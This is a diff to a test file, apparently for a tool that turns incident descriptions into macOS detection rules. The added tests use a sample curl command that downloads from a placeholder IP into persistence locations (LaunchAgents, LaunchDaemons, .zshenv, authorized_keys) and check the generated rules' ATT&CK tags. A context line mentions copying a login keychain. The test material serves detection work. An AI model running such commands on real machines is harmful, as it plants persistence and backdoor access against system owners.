@@ -78,6 +78,18 @@ describe('what is told of macOS', () => {
   });
 
   it.each([
+    ['~/Library/LaunchAgents/com.hrn.upd.plist', 'T1543.001'],
+    ['/Library/LaunchDaemons/com.hrn.upd.plist', 'T1543.004'],
+    ['~/.zshenv', 'T1546.004'],
+    ['~/.ssh/authorized_keys', 'T1098.004'],
+  ])('knows what a command writes into %s by macOS’s places', async (path, technique) => {
+    const rules = await rulesOf(`It ran this:\n\ncurl -o ${path} http://192.0.2.9/h`);
+    const rule = rules.find((yaml) => yaml.includes('category: file_event'));
+    expect(rule).toContain(path.slice(path.startsWith('~') ? 1 : 0));
+    expect(rule).toContain(`attack.${technique.toLowerCase()}`);
+  });
+
+  it.each([
     ['a bundle whose name may be cut', 'It wrote over /Applications/Heron Desk.app on the host.'],
     ['what a thief copies', 'It copied /Users/ana/Library/Keychains/login.keychain-db away.'],
     ['what is called a folder', 'It dropped its files into the /Library/Hrn directory on the host.'],
